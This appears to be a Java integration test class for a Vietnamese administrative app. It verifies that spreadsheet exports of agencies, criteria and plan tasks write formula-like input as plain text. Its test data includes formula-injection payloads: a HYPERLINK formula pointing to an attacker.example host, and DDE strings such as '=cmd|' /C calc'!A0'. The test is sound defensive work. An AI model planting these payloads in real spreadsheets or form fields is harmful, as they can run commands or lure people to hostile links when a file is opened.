package vn.chiso.security;

import java.io.ByteArrayInputStream;
import java.util.ArrayList;
import java.util.List;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.MvcResult;

import vn.chiso.ChiSoIntegrationTest;
import vn.chiso.support.Fixtures;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

/**
 * Formula injection end to end: formula-like text typed into the agency, criterion and plan forms comes out of the
 * downloads (agency list, criteria set, assignment table report) as string cells, unchanged, never as formulas.
 */
@ChiSoIntegrationTest
class ExportInjectionTests {

	@Autowired
	MockMvc mvc;

	@Autowired
	Fixtures fixtures;

	@Autowired
	JdbcClient jdbc;

	@Test
	void agencyExportWritesFormulaLikeNamesAsText() throws Exception {
		CurrentUser admin = this.fixtures.user(Role.QUAN_TRI, null);
		String mark = Fixtures.unique("F");
		String name = "=HYPERLINK(\"http://attacker.example/?" + mark + "\",\"Bấm vào đây\")";
		String shortName = "@SUM(1+1)" + mark;
		this.mvc.perform(post("/admin/agencies/new").with(user(admin))
			.with(csrf())
			.param("code", Fixtures.unique("FX"))
			.param("name", name)
			.param("shortName", shortName)
			.param("kind", "SO_BAN_NGANH"));
		byte[] file = download(admin, "/admin/agencies/export.xlsx");
		assertWrittenAsText(file, name, shortName);
	}

	@Test
	void criteriaExportWritesFormulaLikeNamesAsText() throws Exception {
		CurrentUser admin = this.fixtures.user(Role.QUAN_TRI, null);
		Long parIndex = this.jdbc.sql("select id from index_def where code = 'PAR_INDEX'").query(Long.class).single();
		MvcResult set = this.mvc
			.perform(post("/admin/catalog/sets/new").with(user(admin))
				.with(csrf())
				.param("indexId", parIndex.toString())
				.param("year", String.valueOf(Fixtures.freshYears(1)))
				.param("subject", "PROVINCE")
				.param("name", "=1+1 bộ tiêu chí"))
			.andReturn();
		String location = set.getResponse().getRedirectedUrl();
		assertThat(location).isNotNull();
		long setId = Long.parseLong(location.substring(location.lastIndexOf('/') + 1));
		String name = "=cmd|' /C calc'!A0 " + Fixtures.unique("F");
		this.mvc.perform(post("/admin/catalog/sets/" + setId + "/criteria/new").with(user(admin))
			.with(csrf())
			.param("code", "1")
			.param("name", name)
			.param("maxPoints", "10")
			.param("assessmentMethod", "SELF_APPRAISED"));
		assertWrittenAsText(download(admin, "/catalog/sets/" + setId + "/export"), name);
	}

	@Test
	void assignmentTableWritesFormulaLikeTaskTextAsText() throws Exception {
		CurrentUser admin = this.fixtures.user(Role.QUAN_TRI, null);
		vn.chiso.agency.AgencyView lead = this.fixtures.department("Sở Công Thức " + Fixtures.unique("F"));
		int year = Fixtures.freshYears(1);
		MvcResult plan = this.mvc
			.perform(post("/plans/new").with(user(admin))
				.with(csrf())
				.param("code", Fixtures.unique("F") + "/KH-UBND")
				.param("title", "+Kế hoạch thử công thức")
				.param("issueDate", "05/02/" + year)
				.param("firstYear", String.valueOf(year))
				.param("lastYear", String.valueOf(year))
				.param("version", "0"))
			.andReturn();
		String location = plan.getResponse().getRedirectedUrl();
		assertThat(location).isNotNull();
		long planId = Long.parseLong(location.substring(location.lastIndexOf('/') + 1));
		long appendix = this.jdbc.sql("select id from plan_section where plan_id = :p")
			.param("p", planId)
			.query(Long.class)
			.single();
		String content = "=HYPERLINK(\"http://attacker.example\",\"Nhiệm vụ " + Fixtures.unique("F") + "\")";
		String timing = "-2+3+cmd|' /C calc'!A0";
		String completion = "- Hoàn thành trong quý III";
		MvcResult task = this.mvc
			.perform(post("/plans/" + planId + "/tasks/new").with(user(admin))
				.with(csrf())
				.param("sectionId", String.valueOf(appendix))
				.param("number", "1")
				.param("content", content)
				.param("leadText", lead.name())
				.param("timingText", timing)
				.param("completionText", completion)
				.param("version", "0"))
			.andReturn();
		assertThat(task.getResponse().getRedirectedUrl()).as(task.getResponse().getContentAsString()).isNotNull();
		byte[] file = download(admin, "/reports/download?kind=ASSIGNMENT_TABLE&planId=" + planId);
		assertWrittenAsText(file, content, timing, completion);
	}

	private byte[] download(CurrentUser who, String url) throws Exception {
		MvcResult result = this.mvc.perform(get(url).with(user(who))).andReturn();
		assertThat(result.getResponse().getStatus()).as(url).isEqualTo(200);
		return result.getResponse().getContentAsByteArray();
	}

	private static void assertWrittenAsText(byte[] file, String... texts) throws Exception {
		List<String> strings = new ArrayList<>();
		try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(file))) {
			for (Sheet sheet : wb) {
				for (Row row : sheet) {
					for (Cell cell : row) {
						assertThat(cell.getCellType()).as(sheet.getSheetName() + "!" + cell.getAddress())
							.isNotEqualTo(CellType.FORMULA);
						if (cell.getCellType() == CellType.STRING) {
							strings.add(cell.getStringCellValue());
						}
					}
				}
			}
		}
		for (String text : texts) {
			assertThat(strings).as("a string cell holds " + text).anySatisfy(s -> assertThat(s).contains(text));
		}
	}

}
